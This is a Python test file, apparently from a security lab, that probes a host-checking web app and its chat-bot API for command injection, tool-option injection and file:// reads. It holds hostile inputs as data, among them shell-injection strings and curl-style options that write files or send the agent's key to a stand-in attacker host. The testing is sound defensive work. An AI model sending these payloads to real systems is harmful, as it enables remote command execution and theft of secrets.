import random
import secrets

from doors import DATA, DIRECT_DOORS, DOORS, DOORS_WITH_FAMILY, Probe

HERE = "reach.test"
KINDS = ("name", "web")
KEY = f"{DATA}/agent.key"

# What only the tools themselves would print, when they take a host for an option.
TOOL_TALK = ("libcurl/", "Usage:", "GLIBC", "Free Software Foundation", "curl --manual")

# What stands in place of A and B are two numbers; a shell adds them up.
COMMANDS = {
    "a line break": "{start}\necho $((A+B))",
    "a line break, a command without any sign": "{start}\nexpr A + B",
    "a line break, tabs instead of spaces": "{start}\n\texpr\tA\t+\tB",
    "a carriage return and line break": "{start}\r\nexpr A + B",
    "a substitution in $(…)": "$(expr A + B)",
    "a substitution in $(…) without spaces": "$(echo${IFS}$((A+B)))",
    "an arithmetic expansion": "$((A+B))",
    "a substitution in backquotes": "`expr A + B`",
    "a semicolon": "{start};expr A + B",
    "an ampersand": "{start}&expr A + B",
    "two bars": "{start} || expr A + B",
    "one bar": "{start}|expr A + B",
    "a closing double quote": '{start}"\nexpr A + B\necho "',
    "a closing single quote": "{start}'\nexpr A + B\necho '",
    "the zone of an IPv6 address": "fe80::1%$(expr A + B)",
    "the zone of an IPv6 address, without spaces": "fe80::1%$((A+B))",
}


def commands(start: str) -> list[tuple[str, str, str]]:
    """(name, value, result): an echo of the value does not contain the result."""
    made = [("a line break and one word", f"{start}\nenv", "DATA_DIR=/lab")]
    for name, shape in COMMANDS.items():
        a, b = (random.randint(100_000_000, 400_000_000) for _ in range(2))
        text = shape.replace("{start}", start).replace("A", str(a)).replace("B", str(b))
        made.append((name, text, str(a + b)))
    return made


def assert_host_runs_nothing(app, door: str) -> None:
    tries = [
        (kind, *command)
        for number, command in enumerate(commands("nobody.test"))
        for kind in (KINDS if door in DIRECT_DOORS else KINDS[number % 2 :][:1])
    ]
    shown = DOORS[door](app, [Probe(text, kind) for kind, _, text, _ in tries])
    for (_, name, _, result), page in zip(tries, shown, strict=True):
        assert result not in page, (
            f"A command in the host still runs: {name}, sent through {door}, "
            f"made the shell answer {result}."
        )


def test_host_in_form(app):
    """A host in the check form runs no command"""
    assert_host_runs_nothing(app, "the check form")


def test_host_in_api(app):
    """A host that the chat bot asks for runs no command"""
    assert_host_runs_nothing(app, "/api/check")


def test_host_in_watch_list(app):
    """A host on the watch list runs no command when all are checked"""
    assert_host_runs_nothing(app, "the watch list")


def test_host_in_import(app):
    """An imported host runs no command when all are checked"""
    assert_host_runs_nothing(app, "an imported list")


def test_family_command(app):
    """The connection setting runs no command"""
    for door in DOORS_WITH_FAMILY:
        tries = commands("-4") + commands("")
        shown = DOORS[door](
            app, [Probe("nobody.test", "web", text) for _, text, _ in tries]
        )
        for (name, _, result), page in zip(tries, shown, strict=True):
            assert result not in page, (
                f"A command in the connection setting still runs: {name}, sent through {door}, "
                f"made the shell answer {result}."
            )


def test_host_as_option(app):
    """A host that looks like an option is not obeyed"""
    hosts = ("--version", "-V", "--help", "--usage", "-?", "-Vnobody.test")
    tries = [Probe(host, kind) for kind in KINDS for host in hosts]
    for door, send in DOORS.items():
        for probe, page in zip(tries, send(app, tries), strict=True):
            assert not any(talk in page for talk in TOOL_TALK), (
                f"A host such as {probe.host}, sent through {door}, is still taken for an option: "
                "the tool talks about itself instead of checking that host."
            )


def test_option_writes_file(app, files):
    """No option makes a tool write a file"""
    families = (
        "-o{}",
        "-4o{}",
        "-sSo{}",
        "-D{}",
        "-c{}",
        "-4 -o {}",
        "-6D{}",
        "-o{} -4",
        "-4\t-o{}",
    )
    for door in DOORS_WITH_FAMILY:
        names = [f"{secrets.token_hex(6)}.txt" for _ in families]
        settings = [
            shape.format(f"{DATA}/{name}")
            for shape, name in zip(families, names, strict=True)
        ]
        pages = DOORS[door](app, [Probe(HERE, "web", setting) for setting in settings])
        for shape, name, _ in zip(families, names, pages, strict=True):
            assert name not in files.listing("data"), (
                f"The connection setting {shape.format('FILE')}, sent through {door}, "
                "still makes the tool write a file of the attacker's choice."
            )


def test_spaces_in_host(app, files):
    """A host brings no options along"""
    for door, send in DOORS.items():
        name = f"{secrets.token_hex(6)}.txt"
        tries = [
            f"{HERE} -o {DATA}/{name}",
            f"-o{DATA}/{name} {HERE}",
            f"{HERE}\t-o\t{DATA}/{name}",
        ]
        for _ in send(app, [Probe(host, "web") for host in tries]):
            assert name not in files.listing("data"), (
                f"A host with a space and an option in it, sent through {door}, "
                "still makes the tool write a file of the attacker's choice."
            )


def test_option_sends_file(app, attacker, flag):
    """No option makes a tool send a file away"""

    def assert_kept(door: str, what: str, probes: list[Probe]) -> None:
        attacker.clear()
        for _ in DOORS[door](app, probes):
            pass
        for request in attacker.requests():
            sent = (
                request.body.decode(errors="replace")
                + request.path
                + str(request.query)
            )
            assert flag not in sent, (
                f"{what}, sent through {door}, still makes the tool send the agent's key "
                "to the attacker's site."
            )

    for door in DOORS_WITH_FAMILY:
        for family in (
            f"-d@{KEY}",
            f"-4d@{KEY}",
            f"-Fkey=@{KEY}",
            f"-T{KEY}",
            f"-d @{KEY}",
        ):
            what = f"The connection setting {family.replace(KEY, 'FILE')}"
            assert_kept(door, what, [Probe("attacker.test", "web", family)])
        what = "An address in the connection setting, together with an option as host"
        assert_kept(door, what, [Probe(f"-d@{KEY}", "web", "attacker.test")])
    for door in DOORS:
        what = "A host with a space and an option in it"
        assert_kept(door, what, [Probe(f"attacker.test -d @{KEY}", "web")])


def test_host_as_file(app, files):
    """A web check reads no file of the host itself"""
    first = files.app("app.py").decode().splitlines()[0].strip()
    places = ("file://", "FILE://", "file://localhost", "file:")
    tries = [Probe(f"{place}/home/learner/app/app.py", "web") for place in places]
    for door, send in DOORS.items():
        for probe, page in zip(tries, send(app, tries), strict=True):
            assert first not in page, (
                f"A web check of {probe.host}, sent through {door}, still shows a file of the host itself "
                "instead of what a web server answers."
            )
